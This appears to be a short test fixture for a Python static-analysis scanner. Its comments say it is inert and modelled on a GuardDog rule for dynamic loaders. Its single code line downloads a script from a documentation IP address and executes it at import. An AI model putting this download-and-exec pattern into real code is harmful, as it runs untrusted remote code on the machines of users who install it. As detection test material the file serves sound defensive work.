# INERT test sample for pyward's static analysis: never run it. Modelled on download-and-execute at import.
# Documented: GuardDog v3 threat-runtime-dynamic-loader
# Every address is a documentation address (RFC 5737); nothing here is functional malware.
import urllib.request
exec(urllib.request.urlopen('http://203.0.113.50/payload.py').read())
